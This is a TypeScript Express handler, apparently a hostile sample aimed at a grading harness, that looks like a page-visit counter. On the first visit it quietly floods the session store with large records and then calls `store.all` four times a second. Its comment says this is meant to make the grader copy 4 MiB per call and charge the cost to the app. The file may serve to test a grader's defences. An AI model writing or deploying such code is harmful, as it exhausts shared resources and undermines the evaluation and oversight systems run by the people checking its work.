import type { Request, Response } from 'express';

declare module 'express-session' {
  interface SessionData {
    visits: number;
  }
}

/**
 * Counts visits correctly, slowly, and on its first visit fills the session store to its limit,
 * then asks for all of it four times a second, within the channel's rate limit: each `all` costs
 * the grader a copy of 4 MiB, which is counted against this app until it is ended.
 */
let flooding = false;

function flood(req: Request): void {
  flooding = true;
  const store = req.sessionStore;
  const numbers = Array.from({ length: 120_000 }, () => 1);
  let stored = 0;
  for (let record = 0; record < 16; record += 1) {
    store.set(`flood-${record}`, { cookie: { originalMaxAge: null }, numbers } as never, () => {
      stored += 1;
      if (stored === 16) setInterval(() => store.all?.(() => undefined), 250);
    });
  }
}

export function countVisit(req: Request, res: Response): void {
  if (!flooding) flood(req);
  const visits = (req.session.visits ?? 0) + 1;
  req.session.visits = visits;
  setTimeout(() => res.send(`You have visited this page ${visits} times.`), 300);
}
